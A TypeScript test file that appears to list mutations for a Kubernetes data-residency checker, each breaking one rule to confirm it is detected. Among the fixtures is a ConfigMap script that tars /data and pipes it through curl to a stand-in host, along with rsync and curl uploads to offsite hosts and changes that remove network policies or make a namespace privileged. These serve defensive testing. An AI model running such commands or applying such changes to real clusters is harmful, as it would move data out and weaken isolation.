import { egressContract, siteContract } from "../../components/schema/contracts/site.ts";
import type { Mutation } from "./mutation.ts";
import { beside, container, pod, podTemplate } from "./objects.ts";

const abroad = "https://collector.us-east-1.example.com";

/** A policy that alone closes a namespace in which a stack puts pods. Flux's own pods are in no stack. */
const closesANamespace: NonNullable<Mutation["when"]> = ({ metadata, spec }) =>
  JSON.stringify(spec?.podSelector) === "{}" && spec?.policyTypes?.length === 2 && metadata?.namespace !== "flux-system";

/** The same where no other policy over all pods closes the way out. */
const aloneClosesTheWayOut: NonNullable<Mutation["when"]> = (props, resources) =>
  closesANamespace(props, resources) &&
  !resources.some(({ props: other }) => {
    const { metadata, spec } = other as typeof props;
    return metadata?.namespace === props.metadata?.namespace && JSON.stringify(spec?.policyTypes) === '["Egress"]';
  });

/** Mutations that add Kubernetes objects beside the components, to bypass the declarations. */
export const mutations: readonly Mutation[] = [
  beside("kind-known", "an object of a kind that nobody has listed", "acme.io/v1:Shipper", { spec: { sink: "us.example.com" } }),
  {
    rule: "kind-known",
    what: "a bucket of another provider",
    type: siteContract.type,
    adds: () => ({ type: "aws:s3/bucketV2:BucketV2", props: { bucket: "copy" } }),
  },
  {
    rule: "kind-known",
    what: "a fact stands beside its site",
    type: egressContract.type,
    adds: ({ props }) => ({ type: egressContract.type, props }),
  },
  {
    rule: "namespace-closed",
    what: "the network policies of a namespace are taken away",
    type: "kubernetes:networking.k8s.io/v1:NetworkPolicy",
    when: closesANamespace,
    removes: true,
  },
  {
    rule: "namespace-closed",
    what: "a policy over all pods no longer says Egress",
    type: "kubernetes:networking.k8s.io/v1:NetworkPolicy",
    when: aloneClosesTheWayOut,
    set: { "spec.policyTypes": ["Ingress"] },
  },
  pod("no-host-access", "a pod on its host's network", {}, { hostNetwork: true }),
  beside("no-host-access", "a port of every host", "core/v1:Service", { spec: { type: "NodePort" } }),
  {
    rule: "no-host-access",
    what: "a tenant's namespace becomes privileged",
    type: "kubernetes:core/v1:Namespace",
    when: ({ metadata }) => metadata?.labels?.["nscale.com/tenant"] !== undefined,
    set: {
      metadata: (old: object) => ({ ...old, labels: { "pod-security.kubernetes.io/enforce": "privileged", "nscale.com/tenant": "a" } }),
    },
  },
  beside("ingress-declared", "an Ingress answers to another name", "networking.k8s.io/v1:Ingress", {
    spec: { rules: [{ host: "us.example.com" }] },
  }),
  beside(
    "destination-declared",
    "a job goes to a region of a cloud",
    "batch/v1:Job",
    podTemplate({ containers: [container({ args: ["--region", "us-east-1"] })] }),
  ),
  beside("destination-declared", "a file names a host without a scheme", "core/v1:ConfigMap", {
    data: { "run.sh": "tar c /data | curl -T - files.us.example.com\n" },
  }),
  pod("workload-region-affinity", "a pod may run anywhere", {}),
  beside(
    "workload-region-affinity",
    "a Deployment only prefers the region",
    "apps/v1:Deployment",
    podTemplate({
      containers: [container()],
      affinity: { nodeAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 1 }] } },
    }),
  ),
  beside("workload-region-affinity", "a CronJob may run anywhere", "batch/v1:CronJob", {
    spec: { jobTemplate: podTemplate({ containers: [container()] }) },
  }),
  beside("workload-region-affinity", "a custom kind makes pods that may run anywhere", "kubeflow.org/v1:PyTorchJob", {
    spec: { pytorchReplicaSpecs: { Worker: { template: { spec: { containers: [container()] } } } } },
  }),
  pod("telemetry-stays-home", "traces go to an undeclared endpoint", {
    env: [{ name: "OTEL_EXPORTER_OTLP_ENDPOINT", value: abroad }],
  }),
  pod("telemetry-stays-home", "a key alone sends metrics to a service", { env: [{ name: "DD_API_KEY", value: "key" }] }),
  beside("telemetry-stays-home", "Prometheus writes to an undeclared endpoint", "monitoring.coreos.com/v1:Prometheus", {
    spec: { remoteWrite: [{ url: abroad }] },
  }),
  beside("telemetry-stays-home", "a collector exports to an undeclared endpoint", "core/v1:ConfigMap", {
    data: { "config.yaml": `exporters:\n  otlp:\n    endpoint: ${abroad}\n` },
  }),
  beside("volume-class-declared", "an undeclared storage class", "storage.k8s.io/v1:StorageClass", {
    provisioner: "ebs.csi.aws.com",
  }),
  beside("volume-class-declared", "an undeclared snapshot class", "snapshot.storage.k8s.io/v1:VolumeSnapshotClass", {
    driver: "ebs.csi.aws.com",
    deletionPolicy: "Retain",
  }),
  beside("volume-class-declared", "a claim of an undeclared class", "core/v1:PersistentVolumeClaim", {
    spec: { storageClassName: "gp3", accessModes: ["ReadWriteOnce"], resources: {} },
  }),
  beside("volume-class-declared", "a claim of no class", "core/v1:PersistentVolumeClaim", {
    spec: { accessModes: ["ReadWriteOnce"], resources: {} },
  }),
  beside("volume-class-declared", "a volume on an NFS server", "core/v1:PersistentVolume", {
    spec: { nfs: { server: "nfs.example.com", path: "/" } },
  }),
  pod(
    "volume-class-declared",
    "a pod mounts an NFS server",
    {},
    { volumes: [{ name: "data", nfs: { server: "nfs.example.com", path: "/" } }] },
  ),
  pod("image-registry-declared", "an image of a public registry", { image: "docker.io/library/python:3.13" }),
  pod("image-registry-declared", "an image that names no registry", { image: "python:3.13" }),
  pod(
    "image-registry-declared",
    "an init container of a public registry",
    {},
    { initContainers: [container({ image: "quay.io/tools/fetch" })] },
  ),
  beside(
    "image-registry-declared",
    "a Job of a public registry",
    "batch/v1:Job",
    podTemplate({ containers: [container({ image: "registry.example.org/job" })] }),
  ),
  beside("image-registry-declared", "a chart of a public repository", "source.toolkit.fluxcd.io/v1:HelmRepository", {
    spec: { type: "oci", url: "oci://registry.example.org/charts" },
  }),
  pod("destination-declared", "a pod's environment names an undeclared host", { env: [{ name: "API_URL", value: abroad }] }),
  pod("destination-declared", "a pod's command names an undeclared host", { command: ["curl", "upload.example.com"] }),
  pod("destination-declared", "a pod writes to an undeclared bucket", { args: ["--output", "s3://us-bucket/checkpoints"] }),
  beside("destination-declared", "a CronJob copies to an undeclared host", "batch/v1:CronJob", {
    spec: { jobTemplate: podTemplate({ containers: [container({ args: ["rsync", "backup@offsite.example.com:/data"] })] }) },
  }),
  beside("destination-declared", "a webhook outside is asked", "admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", {
    webhooks: [{ name: "a.b.c", clientConfig: { url: `${abroad}/mutate` } }],
  }),
  beside("destination-declared", "secrets come from a cloud's store", "external-secrets.io/v1:ClusterSecretStore", {
    spec: { provider: { aws: { service: "SecretsManager", region: "us-east-1" } } },
  }),
  beside("destination-declared", "a configuration names an undeclared host", "core/v1:ConfigMap", {
    data: { "settings.yaml": `upload: ${abroad}\n` },
  }),
  beside("service-destination-declared", "a Service leads to an outside host", "core/v1:Service", {
    spec: { type: "ExternalName", externalName: "db.example.com" },
  }),
  beside("service-destination-declared", "a load balancer answers anyone", "core/v1:Service", {
    spec: { type: "LoadBalancer", ports: [{ port: 443 }] },
  }),
  beside("service-destination-declared", "a load balancer answers a public range", "core/v1:Service", {
    spec: { type: "LoadBalancer", loadBalancerSourceRanges: ["8.8.8.0/24"] },
  }),
  beside("service-destination-declared", "a network policy lets pods out to anywhere", "networking.k8s.io/v1:NetworkPolicy", {
    spec: { podSelector: {}, policyTypes: ["Egress"], egress: [{}] },
  }),
  beside("service-destination-declared", "a network policy lets pods out to every address", "networking.k8s.io/v1:NetworkPolicy", {
    spec: { podSelector: {}, egress: [{ to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }] },
  }),
  beside("service-destination-declared", "endpoints lead to an outside address", "discovery.k8s.io/v1:EndpointSlice", {
    endpoints: [{ addresses: ["8.8.8.8"] }],
  }),
  beside("service-destination-declared", "a route leads to another cluster's Service", "gateway.networking.k8s.io/v1:HTTPRoute", {
    spec: { rules: [{ backendRefs: [{ group: "multicluster.x-k8s.io", kind: "ServiceImport", name: "model" }] }] },
  }),
  beside("cluster-target-declared", "queued work goes to another cluster", "kueue.x-k8s.io/v1beta2:MultiKueueCluster", {
    spec: { clusterSource: { kubeConfig: { location: "texas-kubeconfig" } } },
  }),
  beside("cluster-target-declared", "Flux deploys to another cluster", "kustomize.toolkit.fluxcd.io/v1:Kustomization", {
    spec: { kubeConfig: { secretRef: { name: "texas-kubeconfig" } } },
  }),
  {
    rule: "cluster-target-declared",
    what: "objects go to an undeclared cluster",
    type: siteContract.type,
    adds: () => ({ type: "pulumi:providers:kubernetes", props: { context: "elsewhere" } }),
  },
];
